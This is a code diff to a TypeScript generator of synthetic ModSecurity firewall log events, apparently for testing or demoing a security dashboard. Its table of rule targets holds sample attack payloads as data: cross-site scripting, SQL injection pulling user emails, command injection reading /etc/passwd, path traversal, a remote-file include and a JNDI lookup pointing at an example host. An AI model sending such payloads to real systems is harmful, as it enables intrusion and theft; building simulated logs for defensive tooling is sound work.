@@ -34,21 +34,73 @@ const TRICKLE_SHARE = 0.03;
 /** An ordinary event counts this many requests, which keeps the number of events of a month small. */
 const REQUESTS_PER_EVENT = 4;
 
-/** The rule of the core rule set that finds such attacks, and where they go. */
-const TARGETS: Readonly<Record<Category, { rule: string; urls: readonly string[] }>> = {
-  xss: { rule: '941100', urls: ['/search', '/comments', '/profile'] },
-  sqli: { rule: '942100', urls: ['/products', '/search', '/api/v1/orders', '/login'] },
-  cmdi: { rule: '932160', urls: ['/cgi-bin/status', '/api/v1/ping'] },
-  cc: { rule: '912120', urls: ['/login', '/api/v1/token'] },
-  custom: { rule: '100010', urls: ['/admin'] },
-  illegal: { rule: '920350', urls: ['/', '/api/v1/upload'] },
-  lfi: { rule: '930120', urls: ['/download', '/static/..%2f..%2fetc/passwd'] },
-  robot: { rule: '913100', urls: ['/', '/robots.txt', '/wp-login.php', '/.env', '/.git/config'] },
-  antitamper: { rule: '100020', urls: ['/index.html'] },
-  rfi: { rule: '931130', urls: ['/include.php'] },
-  vuln: { rule: '944150', urls: ['/actuator/env', '/xmlrpc.php', '/vendor/phpunit/eval-stdin.php'] },
-  whiteblackip: { rule: '910100', urls: ['/', '/login'] },
-  webshell: { rule: '955100', urls: ['/uploads/shell.php', '/images/up.php'] },
+interface Target {
+  /** The rule of the core rule set that finds such attacks. */
+  rule: string;
+  urls: readonly string[];
+  /** What the rule matches, and the value if it is not another field of the attack. */
+  variable: string;
+  value?: string;
+}
+
+const TARGETS: Readonly<Record<Category, Target>> = {
+  xss: {
+    rule: '941100',
+    urls: ['/search', '/comments', '/profile'],
+    variable: 'ARGS:q',
+    value: '<script>alert(document.domain)</script>',
+  },
+  sqli: {
+    rule: '942100',
+    urls: ['/products', '/search', '/api/v1/orders', '/login'],
+    variable: 'ARGS:id',
+    value: "1' UNION SELECT name, email FROM users--",
+  },
+  cmdi: {
+    rule: '932160',
+    urls: ['/cgi-bin/status', '/api/v1/ping'],
+    variable: 'ARGS:address',
+    value: '127.0.0.1;cat /etc/passwd',
+  },
+  cc: { rule: '912120', urls: ['/login', '/api/v1/token'], variable: 'REMOTE_ADDR' },
+  custom: { rule: '100010', urls: ['/admin'], variable: 'REQUEST_FILENAME' },
+  illegal: {
+    rule: '920350',
+    urls: ['/', '/api/v1/upload'],
+    variable: 'REQUEST_HEADERS:Host',
+    value: '192.0.2.1',
+  },
+  lfi: {
+    rule: '930120',
+    urls: ['/download', '/static/..%2f..%2fetc/passwd'],
+    variable: 'ARGS:file',
+    value: '../../../../etc/passwd',
+  },
+  robot: {
+    rule: '913100',
+    urls: ['/', '/robots.txt', '/wp-login.php', '/.env', '/.git/config'],
+    variable: 'REQUEST_HEADERS:User-Agent',
+  },
+  antitamper: { rule: '100020', urls: ['/index.html'], variable: 'REQUEST_FILENAME' },
+  rfi: {
+    rule: '931130',
+    urls: ['/include.php'],
+    variable: 'ARGS:page',
+    value: 'http://198.51.100.99/shell.txt',
+  },
+  vuln: {
+    rule: '944150',
+    urls: ['/actuator/env', '/xmlrpc.php', '/vendor/phpunit/eval-stdin.php'],
+    variable: 'REQUEST_HEADERS:Referer',
+    value: '{jndi:ldap://198.51.100.99/a}',
+  },
+  whiteblackip: { rule: '910100', urls: ['/', '/login'], variable: 'REMOTE_ADDR' },
+  webshell: {
+    rule: '955100',
+    urls: ['/uploads/shell.php', '/images/up.php'],
+    variable: 'ARGS:cmd',
+    value: 'uname -a',
+  },
 };
 /** Attackers outside of bursts, each with its country. Their addresses and networks are reserved for examples. */
 const ATTACKERS = Array.from({ length: 240 }, (_, i) => ({
@@ -57,7 +109,14 @@ const ATTACKERS = Array.from({ length: 240 }, (_, i) => ({
       ? `2001:db8:${i.toString(16)}::1`
       : `${['192.0.2', '198.51.100', '203.0.113'][i % 3]}.${i + 1}`,
   country: ['US', 'CN', 'DE', 'NL', 'RU', 'BR', 'IN', 'FR', 'VN', 'SG'][(i * 7) % 10] ?? 'US',
+  userAgent:
+    ['sqlmap/1.8.11#stable (https://sqlmap.org)', 'Nikto/2.5.0', 'python-requests/2.32.3', 'zgrab/0.x'][
+      i % 4
+    ] ?? '',
 }));
+/** The rule that blocks requests, and the score from which on it does. */
+const BLOCKING = { id: '949110', variable: 'TX:BLOCKING_INBOUND_ANOMALY_SCORE', value: '5' };
+const SCORE = 5;
 
 /** A burst is mostly one kind of attack, as of a scanner or a flood. */
 const BURST_CATEGORIES: readonly Category[] = ['sqli', 'robot', 'cc', 'xss', 'lfi', 'cmdi'];
@@ -101,11 +160,31 @@ function eventsOf(second: number, burst: Burst | null, hostIds: readonly string[
 /** A burst has one attacker. Details have their own random numbers, so that they do not change what is counted. */
 function detailsOf(attack: Category, time: number, attacker?: number): AttackDetails {
   const random = randomNumbers(time);
-  const { rule, urls } = TARGETS[attack];
+  const { rule: id, urls, variable, value } = TARGETS[attack];
   // Squared, so that some are frequent and others rare.
   const number = Math.floor(attacker ?? random() ** 2 * ATTACKERS.length) % ATTACKERS.length;
+  const { source = '', country = '', userAgent = '' } = ATTACKERS[number] ?? {};
   const url = urls[Math.floor(random() ** 2 * urls.length)] ?? '/';
-  return { blocked: time % 8 !== 0, ...ATTACKERS[number], url, rule };
+  const isBlocked = time % 8 !== 0;
+  const fields: Readonly<Record<string, string>> = {
+    REMOTE_ADDR: source,
+    REQUEST_FILENAME: url,
+    'REQUEST_HEADERS:User-Agent': userAgent,
+  };
+  const match = { id, variable, value: value ?? fields[variable] ?? '', severity: 'critical' };
+  const [, argument] = /^ARGS:(.*)/.exec(variable) ?? [];
+  return {
+    // As ModSecurity for nginx makes them.
+    id: `${Math.floor(time / 10)}.${String(Math.floor(random() * 1_000_000)).padStart(6, '0')}`,
+    blocked: isBlocked,
+    ...{ source, country, userAgent, url },
+    ...(argument !== undefined && { query: `${argument}=${encodeURIComponent(match.value)}` }),
+    method: attack === 'cc' ? 'POST' : 'GET',
+    status: isBlocked ? 403 : 200,
+    rule: id,
+    rules: isBlocked ? [match, BLOCKING] : [match],
+    score: SCORE,
+  };
 }
 
 /** Busy afternoons, quiet nights, slow weekends: a factor around 1. */
